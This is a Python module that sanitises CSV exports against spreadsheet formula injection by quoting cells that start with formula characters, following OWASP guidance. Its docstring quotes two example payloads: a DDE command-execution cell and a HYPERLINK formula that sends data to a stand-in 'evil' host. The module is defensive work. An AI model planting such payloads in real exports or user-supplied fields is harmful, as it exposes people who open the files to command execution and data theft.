"""CSV exports that are safe to open in a spreadsheet.

Every CSV the dashboard or the API offers for download must be written with :func:`safe_csv`
(or its cell-level helper :func:`neutralise_cell`): client names and labels come from users
(uploads, shared links, the API), and a spreadsheet treats a cell that starts with ``=``, ``+``,
``-``, ``@``, a TAB or a carriage return as a formula ("CSV injection", OWASP): a name such as
``=cmd|' /C calc'!A0`` or ``=HYPERLINK("http://evil/?"&A1)`` would run or exfiltrate when the
export is opened.

Rule (OWASP "CSV Injection" recommendation): a text cell whose first character is one of
:data:`FORMULA_PREFIXES` is prefixed with a single quote ``'``, which spreadsheets display as
text and hide. Plain numbers are left alone, including negative ones (``-33.87`` stays a
number), because they cannot hold a formula and a quote would turn coordinates into text.
Numeric columns (float/int dtypes) are never touched; in text columns a cell is left alone only
when the whole cell is a plain decimal number.

Pure (pandas only, no web import): the capacity/support export callbacks, the API and the CLI
can all use it.
"""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import pandas as pd

#: First characters that make a spreadsheet cell a formula (or split it into one).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?", re.ASCII)


def neutralise_cell(value: Any) -> Any:
    """``value`` made inert for a spreadsheet: text starting with a formula character gets a
    leading ``'``; numbers, ``None``/NaN and plain numeric text are returned unchanged."""
    if not isinstance(value, str):
        return value
    if value.startswith(FORMULA_PREFIXES) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` with every text cell (and text column name) passed through
    :func:`neutralise_cell`; numeric columns are kept as they are."""
    out = df.copy()
    for col in out.columns:
        if out[col].dtype == object or pd.api.types.is_string_dtype(out[col].dtype):
            out[col] = out[col].map(neutralise_cell).astype(object)
    out.columns = [neutralise_cell(c) if isinstance(c, str) else c for c in out.columns]
    return out


def safe_csv(df: pd.DataFrame, *, index: bool = False, float_format: str | None = None) -> str:
    """``df`` as CSV text (UTF-8 ``str``, ``\\n`` line ends, RFC 4180 quoting) with formula
    injection neutralised (see the module docstring). ``float_format`` e.g. ``"%.1f"``."""
    buf = io.StringIO()
    safe_frame(df).to_csv(buf, index=index, float_format=float_format, lineterminator="\n",
                          quoting=csv.QUOTE_MINIMAL)
    return buf.getvalue()
